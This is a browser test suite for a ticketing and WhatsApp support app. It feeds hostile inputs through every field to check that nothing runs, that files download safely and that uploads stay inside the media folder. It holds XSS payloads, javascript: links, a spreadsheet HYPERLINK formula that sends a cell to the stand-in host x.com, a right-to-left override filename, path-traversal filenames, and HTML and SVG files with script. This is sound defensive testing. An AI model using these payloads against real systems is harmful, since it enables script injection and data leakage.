import { existsSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import { join, relative, resolve } from 'node:path';
import { simulatorApi } from '@prosa/contracts/simulator';
import { ticketsApi } from '@prosa/contracts/tickets';
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Client } from '../server/test/browser.ts';
import { hasChrome, openProfile } from './chromium.ts';
import { eventually, logIn, type Phone, phoneOf, ticketOf } from './journey.ts';
import { openStage } from './stage.ts';

const image = '<img src=x onerror=window.__hit=1>';
const script = '"><script>window.__hit=1</script>';
const formula = '=HYPERLINK("http://x.com/?"&A1,"z")';
const turned = 'nota\u202Egnp.exe';
const link = 'javascript:window.__hit=1//http://x.com';
const texts = [image, script, formula, turned, link, '[x](javascript:window.__hit=1) {{constructor}} %3Cscript%3E'];
const webPage = '<html><body onload="window.__hit=1"><script>window.__hit=1;alert(1)</script></body></html>';
const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.__hit=1"><script>window.__hit=1;alert(1)</script></svg>`;

describe.runIf(hasChrome)('hostile names, texts, files and links through every field', () => {
  const stage = openStage();
  let admin: Client;
  let rita: Client;
  let phone: Phone;
  let ticket: Awaited<ReturnType<typeof ticketOf>>;

  beforeAll(async () => {
    admin = await stage.world.company({ name: image });
    const queueId = await stage.world.queue(admin, script);
    const whatsappId = await stage.world.connection(admin, { queueIds: [queueId], name: formula });
    phone = phoneOf(admin, whatsappId, '5511966665555', image);
    const { number, name } = phone;
    const act = (body: object) => admin.call(simulatorApi.write, { params: { whatsappId }, body: { number, name, body: '', ...body } });
    for (const text of texts) await phone.write(text);
    await act({ contact: { name: script, number: '5511955554444' } });
    await act({ location: { latitude: 1, longitude: 2, name: image } });
    await phone.sendFile(new File([webPage], '../../x.html', { type: 'text/html' }), script);
    await phone.sendFile(new File([drawing], '..\\..\\x.svg', { type: 'image/svg+xml' }));
    await phone.sendFile(new File([webPage], 'x.png', { type: 'image/png' }));
    ticket = await ticketOf(admin, phone);
    // A login elsewhere ends a session, so the screens are somebody else's.
    rita = await stage.world.colleague(admin, 'admin');
    await rita.call(ticketsApi.update, { params: { id: ticket.id }, body: { status: 'open', userId: rita.user.id } });
  });

  test('nothing executes and everything reads as typed', async () => {
    const { page, complaints } = await openProfile(stage.browser, stage.world.server.url);
    const misdeeds = watch(page, stage.world.server.url);
    const reads = async (text: string, where = page.locator('body')) => {
      await where.getByText(text, { exact: true }).first().waitFor();
      expect(await suspects(page)).toEqual([]);
    };
    const dialog = page.getByRole('dialog');
    const fill = (label: string | RegExp, text: string) => dialog.getByLabel(label, { exact: true }).fill(text);
    const save = async () => {
      await dialog.getByRole('button', { name: 'Salvar' }).click();
      await dialog.waitFor({ state: 'detached' });
    };
    await logIn(page, rita);
    await page.goto(`/tickets/${ticket.uuid}`);
    const log = page.getByRole('log');
    await log.getByText('x.png').first().waitFor();
    for (const text of texts) await log.getByRole('article', { name: text }).first().waitFor();
    await reads(script, log);

    for (const text of texts) {
      await page.getByRole('textbox', { name: 'Mensagem' }).fill(text);
      await page.keyboard.press('Enter');
    }
    await eventually(phone.texts).toEqual(expect.arrayContaining(texts.map((text) => expect.stringMatching(ending(text)))));
    await page.locator('input[type=file]').setInputFiles([
      { name: `${image}.html`, mimeType: 'text/html', buffer: Buffer.from(webPage) },
      { name: 'y.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(drawing) },
    ]);
    await page.getByRole('button', { name: 'Enviar', exact: true }).click();
    await eventually(async () => (await phone.read()).filter((each) => each.fromBusiness && each.mediaType === 'application').length).toBe(
      2,
    );

    await page.getByLabel('Nova observação').fill(script);
    await page.getByRole('button', { name: 'Adicionar', exact: true }).click();
    await reads(script, page.getByRole('listitem'));
    await page.getByRole('button', { name: 'Editar tags' }).first().click();
    await page.getByRole('combobox', { name: 'Buscar ou criar tag' }).fill(formula);
    await page.keyboard.press('Enter');
    await page
      .getByRole('button', { name: `Remover a tag ${formula}` })
      .first()
      .waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Editar contato' }).click();
    await fill('Nome', script);
    await dialog.getByRole('button', { name: 'Adicionar informação' }).click();
    await fill('Nome da informação 1', image);
    await fill('Valor da informação 1', link);
    await save();
    await reads(link, page.getByRole('definition'));
    await page.getByRole('button', { name: script, exact: true }).waitFor();

    await page.keyboard.press('Control+k');
    await dialog.getByRole('combobox').fill(script);
    await reads(script, dialog.getByRole('option'));
    await page.keyboard.press('Escape');
    await page.getByRole('tab', { name: 'Busca' }).click();
    await page.getByRole('searchbox').fill(script);
    await reads(script, page.getByRole('tabpanel'));

    await page.goto('/contacts');
    await page.getByRole('button', { name: 'Adicionar contato' }).first().click();
    await fill('Nome', turned);
    await fill('Número', '5511944443333');
    await save();
    await reads(turned, page.getByRole('table'));
    await page.goto('/users');
    await page.getByRole('button', { name: 'Adicionar usuário' }).first().click();
    await fill('Nome', image);
    await fill('Email', 'x@exemplo.com');
    await fill('Senha', 'segredo');
    await save();
    await reads(image, page.getByRole('table'));

    expect(misdeeds()).toEqual([]);
    expect(complaints).toEqual([]);
  });

  test('no file runs in the browser, and none leaves the media folder', async () => {
    const { context, page } = await openProfile(stage.browser, stage.world.server.url);
    const misdeeds = watch(page, stage.world.server.url);
    const { body } = await admin.raw('GET', `/messages/${ticket.id}`);
    const files = (body as { messages: Array<{ mediaUrl: string | null; mediaType: string }> }).messages.filter(({ mediaUrl }) => mediaUrl);
    expect(files.length).toBeGreaterThanOrEqual(3);
    for (const { mediaUrl } of files) {
      const { headers } = await admin.raw('GET', mediaUrl ?? '');
      expect(headers.get('content-disposition')).toMatch(/^attachment; filename="[^"/\\]+"/);
      expect(headers.get('content-security-policy')).toContain('sandbox');
      await page.goto(mediaUrl ?? '').catch((error: Error) => expect(error.message).toMatch(/Download is starting|ERR_ABORTED/));
    }
    await logIn(page, rita);
    await page.goto(`/tickets/${ticket.uuid}`);
    await page
      .getByRole('log')
      .getByRole('link', { name: /^Baixar/ })
      .nth(3)
      .waitFor();
    for (const download of await page
      .getByRole('log')
      .getByRole('link', { name: /^Baixar/ })
      .all()) {
      const [saved] = await Promise.all([page.waitForEvent('download'), download.click()]);
      expect(saved.suggestedFilename()).not.toMatch(/[/\\]|^\.\./);
    }
    expect(misdeeds()).toEqual([]);
    await context.close();

    const media = join(stage.world.dataDir, 'media');
    const stored = (await readdir(media, { recursive: true, withFileTypes: true })).filter((each) => each.isFile());
    const names = stored.map((each) => relative(media, join(each.parentPath, each.name)));
    expect(names.length).toBeGreaterThanOrEqual(files.length);
    for (const name of names) expect(name).toMatch(/^\d+\/[0-9a-f]{2}\/[0-9A-Z]{26}$/);
    for (const up of ['.', '..', '../..']) expect(existsSync(resolve(stage.world.dataDir, up, 'x.html'))).toBe(false);
  });
});

const ending = (text: string) => new RegExp(`${text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`);

/** Dialogs, other windows and pages elsewhere: what a script that ran would do. */
function watch(page: Page, home: string): () => string[] {
  const misdeeds: string[] = [];
  page.on('dialog', (dialog) => {
    misdeeds.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => misdeeds.push(`window: ${popup.url()}`));
  page.on('framenavigated', (frame) => {
    if (!frame.url().startsWith(home) && frame.url() !== 'about:blank') misdeeds.push(`page: ${frame.url()}`);
  });
  return () => misdeeds;
}

/** Whatever on the page came from a text and is more than text. */
function suspects(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const isFine = ({ protocol }: HTMLAnchorElement) => /^(https?|tel|mailto|blob):$/.test(protocol);
    const links = [...document.querySelectorAll('a')].filter((each) => !isFine(each));
    const handlers = [...document.querySelectorAll('*')].filter((each) => each.getAttributeNames().some((name) => name.startsWith('on')));
    const foreign = [...document.querySelectorAll('img[src=x], script:not([src]), iframe, object, embed')];
    return [...links, ...handlers, ...foreign].map((each) => each.outerHTML).concat('__hit' in window ? ['a script ran'] : []);
  });
}
